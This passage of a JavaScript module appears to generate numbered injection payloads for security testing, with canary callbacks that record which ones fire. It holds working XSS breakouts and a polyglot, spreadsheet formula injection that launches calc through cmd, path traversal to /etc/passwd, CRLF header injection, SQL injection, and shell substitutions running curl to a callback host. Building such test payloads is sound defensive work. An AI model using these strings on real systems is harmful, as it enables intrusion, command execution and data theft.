	(n) => `"}]}</script><script>${run(n)}</script><script type="application/json">`, (n) => `<!--<script>"]}${run(n)}`, (n) => `\\u003c/script>\\u003cscript>${run(n)}`, (n) => `\\";${run(n)};//`, (n) => `'+${run(n)}+'`, (n) => `\`+${run(n)}+\``, (n) => `-${run(n)}-`, (n) => `);${run(n)};(`, (n) => `*/${run(n)}/*`, (n) => `//\n${run(n)}`, (n) => `<!--\n${run(n)}\n//-->`, (n) => `javascript:${run(n)}`, (n) => `data:text/html,<script>${run(n)}</script>`, (n) => `JaVaScRiPt:/*-/*\`/*\\\`/*'/*"/**/(${run(n)})//</stYle/</titLe/</teXtarEa/</scRipt/--!><svg/onload=${run(n)}//>`,
	(n) => `=HYPERLINK("${hit(n)}","x")`, (n) => `@SUM(1+1)*cmd|' /C calc'!A${n}`, (n) => `+1\t${n}`, (n) => `url(${hit(n)})`, (n) => `expression(${run(n)})`, (n) => `}*{background:url(${hit(n)})}`, (n) => `;@import "${hit(n)}";`, (n) => `red;background-image:url(${hit(n)})`, (n) => `x" style="background:url(${hit(n)})`, (n) => `../../../../etc/passwd\u0000${n}.png`, (n) => `%0d%0aLocation: ${hit(n)}`, (n) => `x\r\nSet-Cookie: fired=${n}`, (n) => `' OR ${n}=${n} --`, (n) => `$(curl ${hit(n)})`, (n) => `\`curl ${hit(n)}\``, (n) => `%s%n%x${n}`, (n) => `\u0130\u0131\u1e9e\u017f ${run(n)}`, (n) => `\u0041${"\u0301".repeat(50)}${n}`, (n) => `\u{1f469}\u200d\u{1f4bb}${run(n)}`, (n) => `<${"a".repeat(300)} onclick=${run(n)}>`, (n) => `&${"amp;".repeat(20)}lt;script&gt;${run(n)}`, (n) => `${"<b>".repeat(100)}<img src=x onerror=${run(n)}>`,
];

// ---- names that every object has: not active, but may break something ----

const BARE = ["__proto__", "constructor", "toString", "valueOf", "hasOwnProperty", "then", "toJSON", "length", "null", "undefined", "NaN", "-1", " ", "\u00a0"].map((name) => () => name);

export const KINDS = {
	elements: ELEMENTS, clobbers: CLOBBERS, "broken out": BROKEN_OUT, handlers: HANDLERS, disguised: DISGUISES, urls: URLS, places: PLACES, Markdown: CORNERS, texts: TEXTS, names: BARE,
};

/** [{ n, kind, text }, …], all different. */
export function payloads() {
	const all = [];
	for (const [kind, makers] of Object.entries(KINDS))
		for (const make of makers)
			all.push({ n: all.length + 1, kind, text: make(all.length + 1) });
	return all;
}
